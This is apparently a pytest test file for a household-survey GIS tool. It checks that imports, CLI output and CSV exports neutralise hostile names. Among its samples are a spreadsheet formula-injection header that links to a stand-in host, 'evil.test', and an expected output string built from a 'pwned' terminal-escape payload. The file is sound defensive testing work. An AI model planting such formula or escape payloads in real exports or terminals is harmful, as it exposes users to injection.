"""Names that are more than names: what an import says of them, what a terminal and a spreadsheet get of them."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text
from typer.testing import CliRunner, Result

from api.cli import app
from gis.exchange.formulas import harmless
from gis.exchange.headers import Kind
from gis.exchange.importer import Summary, import_file
from gis.households.rounds import open_round
from gis.settings import settings
from gis.storage.engine import Store
from tests.api.conftest import serving
from tests.corpora import county
from tests.corpora.markup import CONTROLS, FORMULAS, INDENTED, TERMINAL
from tests.gis import world

FORMULA_SIGNS = "=+-@＝＋－＠"


@pytest.fixture
def shell(store: Store, database_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    """The command line on the hostile county."""
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("COLUMNS", "200")
    settings.cache_clear()
    yield store
    settings.cache_clear()


def run(*arguments: Any) -> Result:
    outcome = CliRunner().invoke(app, [*map(str, arguments)])
    assert outcome.exception is None, outcome.output
    return outcome


def addresses(store: Store) -> list[str]:
    with store.read() as conn:
        return list(conn.execute(text("SELECT address FROM everycell.doorplate ORDER BY address")).scalars())


@pytest.fixture
def brought(shell: Store, tmp_path: Path) -> dict[Kind, Summary]:
    return county.bring_in(shell, tmp_path)


def test_hostile_names_are_names(shell: Store, brought: dict[Kind, Summary]) -> None:
    wanted = sorted(map(county.stored, county.NAMES))
    assert sorted(addresses(shell)) == wanted
    for kind in (Kind.cells, Kind.divisions, Kind.households, Kind.sites):
        assert brought[kind].rejects == [], kind
    with shell.read() as conn:
        for sql in ("SELECT unit FROM everycell.household", "SELECT name FROM everycell.site"):
            assert sorted(conn.execute(text(sql)).scalars()) == wanted
        codes = set(conn.execute(text("SELECT code FROM everycell.household")).scalars())
    assert codes == {county.code_of("H", name) for name in county.NAMES}


def test_hostile_teams_are_refused(brought: dict[Kind, Summary]) -> None:
    rejects = brought[Kind.visits].rejects
    assert brought[Kind.visits].reports[0].inserted == 2, "A1, and CONSTRUCTOR: a code like any other"
    assert len(rejects) == len(county.NAMES) - 1
    assert {(reject.column, reject.reason) for reject in rejects} == {
        ("team", "is no team code: A-Z, 0-9 and '-', at most 20 (never a name)")
    }


@pytest.mark.parametrize("field", ["address", "unit", "code", "doorplate_code"])
def test_control_characters_are_refused(store: Store, tmp_path: Path, field: str) -> None:
    with store.begin() as conn:
        world.build(conn)
    rows = [
        {"code": f"990101-H{n}", "doorplate_code": f"990101-D{n}", "address": f"柳林路{n}号", "unit": "", field: each}
        for n, each in enumerate(("good", *CONTROLS))
    ]
    path = tmp_path / "doors.geojson"
    place = {"type": "Point", "coordinates": [104.005, 34.505]}
    features = [{"type": "Feature", "properties": row, "geometry": place} for row in rows]
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), "utf-8")
    with store.begin() as conn:
        summary = import_file(conn, Kind.households, path, store.settings)
    assert [(reject.row, reject.column, reject.reason) for reject in summary.rejects] == [
        (n, field, "holds control characters, which nobody sees") for n in range(2, len(rows) + 1)
    ]


def test_a_terminal_shows_names_and_obeys_none(shell: Store, brought: dict[Kind, Summary]) -> None:
    with shell.begin() as conn:  # as another program may write them
        for n, name in enumerate((*TERMINAL, *CONTROLS)):
            conn.execute(
                text("UPDATE everycell.cell SET name = :n WHERE code = :c"), {"n": name, "c": county.cell_of(n)}
            )
        open_round(conn, area=county.VILLAGE, first_on=world.TODAY, last_on=world.TODAY, name=CONTROLS[0] + TERMINAL[0])
    printed = [run("coverage", "--level", "cell").output, run("round", "list").output, run("audit", "list").output]
    for output in printed:
        assert [sign for sign in output if not (sign.isprintable() or sign in "\n ")] == []
    for name in TERMINAL:
        assert name[:12].replace(" ", "") in re.sub(r"\s", "", printed[0]), "the rest may stand in the next line"
    assert "x�]0;pwned�[/red]x" in re.sub(r"\s", "", printed[1])


def cells_of(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    return rows


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may run it: a number it may read as such is none."""
    return cell.strip().lstrip("\ufeff\u200b")[:1] in tuple(FORMULA_SIGNS) and not re.fullmatch(r"-?[0-9.]+", cell)


def test_spreadsheets_get_no_formula_and_lose_nothing(
    shell: Store, brought: dict[Kind, Summary], tmp_path: Path
) -> None:
    with shell.begin() as conn:  # as another program may write them
        for n, address in enumerate(INDENTED):
            values = {"a": address, "c": county.code_of("D", county.NAMES[n])}
            conn.execute(text("UPDATE everycell.doorplate SET address = :a WHERE code = :c"), values)
        conn.execute(
            text("UPDATE everycell.cell SET name = :n WHERE code = :c"), {"n": FORMULAS[0], "c": county.cell_of(0)}
        )
    run("unvisited", "--since", "2100-01-01", "-o", tmp_path / "unvisited.csv")
    run("audit", "export", "-o", tmp_path / "audit.csv")
    files = [(tmp_path / name).read_bytes() for name in ("unvisited.csv", "audit.csv")]
    with serving(shell) as running:
        files += [
            running.get(path).content
            for path in (
                "/households/unvisited?f=csv&since=2100-01-01",
                "/coverage?f=csv&level=cell",
                "/coverage?f=csv",
            )
        ]
    for content in files:
        assert [cell for row in cells_of(content) for cell in row if is_formula(cell)] == []
    for content in (files[0], files[2]):
        head, *rows = cells_of(content)
        at = head.index("address")
        assert sorted(row[at] for row in rows) == sorted(map(harmless, addresses(shell)))
        assert {row[at].removeprefix("'") if is_formula(row[at][1:]) else row[at] for row in rows} == set(
            addresses(shell)
        )
    assert sum(row[1].startswith("'") for row in cells_of(files[3])) >= len(FORMULAS)


def test_a_list_of_rejects_holds_no_formula(store: Store, tmp_path: Path) -> None:
    with store.begin() as conn:
        world.build(conn)
    path = tmp_path / "doors.csv"
    path.write_text(
        "=[http://evil.test/x.xls]address,lon,lat\n" + "x" * 201 + ",104.005,34.505\ny,104.005,34.505\n", "utf-8"
    )
    with store.begin() as conn:
        summary = import_file(conn, Kind.households, path, store.settings)
    assert summary.rejects_path is not None
    assert cells_of(summary.rejects_path.read_bytes())[1][1] == "'=[http://evil.test/x.xls]address"


@pytest.mark.parametrize("value", ["", "a=1", "'=1", "柳林路1-2号", "1+1", None, -5, -5.5, "·-", "(=1)"])
def test_what_is_no_formula_stays(value: object) -> None:
    assert harmless(value) == value
